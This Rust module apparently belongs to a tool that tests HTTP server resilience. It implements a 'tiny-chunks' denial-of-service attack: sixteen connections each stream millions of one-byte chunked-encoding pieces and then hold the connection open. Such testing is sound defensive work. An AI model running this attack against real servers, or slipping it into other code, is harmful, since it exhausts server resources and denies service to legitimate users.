//! Sends bodies in chunks of one byte.

use super::{Attack, WITH_BODIES};
use crate::aim::Aim;
use anyhow::Result;
use futures::FutureExt as _;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "tiny-chunks",
    about: "Sends bodies in chunks of one byte",
    targets: WITH_BODIES,
    attackers: 16,
    leaves_answers: false,
    other_honest: None,
    once: |aim| once(aim).boxed(),
};

async fn once(aim: Aim) -> Result<()> {
    let mut stream = aim.connect().await?;
    stream.write_all(format!("{}transfer-encoding: chunked\r\n\r\n", aim.requests.any_post()).as_bytes()).await?;
    let chunks = "1\r\nx\r\n".repeat(10_000);
    for _ in 0..600 {
        stream.write_all(chunks.as_bytes()).await?;
    }
    aim.hold(stream).await;
    Ok(())
}
